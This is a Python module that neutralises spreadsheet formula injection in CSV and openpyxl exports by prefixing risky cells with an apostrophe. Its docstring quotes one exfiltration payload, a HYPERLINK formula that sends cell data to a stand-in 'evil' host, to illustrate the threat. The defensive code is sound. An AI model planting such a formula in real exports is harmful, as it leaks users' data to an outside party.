"""Cells of exported spreadsheets that come from data are text, never formulas.

A spreadsheet program runs a cell that starts with =, +, - or @ (and, after a tab or carriage
return, some do too): an organisation named `=HYPERLINK("http://evil/?"&A1, "x")` would become
a live link that sends the sheet's figures away. Such a text is written with a leading
apostrophe, which spreadsheet programs show as the text itself (OWASP's CSV injection advice).
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The value to write in a cell: a risky text with an apostrophe before it; numbers and
    other texts unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_row(row):
    return [neutralise(value) for value in row]


class SafeCsvWriter:
    """csv.writer whose every row is neutralised."""

    def __init__(self, buffer, **options):
        self._writer = csv.writer(buffer, **options)

    def writerow(self, row):
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def neutralise_workbook(workbook) -> None:
    """Every text cell of an openpyxl workbook, before it is saved (openpyxl stores a text
    starting with = as a formula)."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    safe = neutralise(cell.value)
                    if safe is not cell.value:
                        cell.value = safe
                        cell.data_type = "s"
